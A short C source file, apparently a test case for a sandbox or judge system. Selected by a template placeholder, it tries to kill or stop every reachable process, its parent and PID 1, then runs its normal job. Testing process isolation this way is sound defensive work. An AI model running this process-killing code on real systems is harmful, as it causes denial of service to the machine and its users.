/* Sends a signal to everybody that it can reach: all at once, one by one, the parent, the first process. Then does the job. */

#include "attack.h"

#define WAY "@WAY@"

int main(int argc, char **argv)
{
    be_alone();
    if (strcmp(WAY, "all") == 0) {
        kill(-1, SIGTERM);
        kill(-1, SIGKILL);
    }
    if (strcmp(WAY, "each") == 0)
        for (pid_t process = 1; process < 70000; process++)
            if (process != getpid())
                kill(process, SIGKILL), kill(-process, process == getpgrp() ? 0 : SIGKILL);
    if (strcmp(WAY, "parent") == 0)
        kill(getppid(), SIGKILL), kill(1, SIGKILL), kill(getppid(), SIGSEGV);
    if (strcmp(WAY, "stop") == 0)
        kill(getppid(), SIGSTOP), kill(1, SIGSTOP), kill(1, SIGTSTP), kill(-1, SIGSTOP);
    if (strcmp(WAY, "group") == 0)
        kill(0, SIGKILL);
    return do_the_job(argc, argv);
}
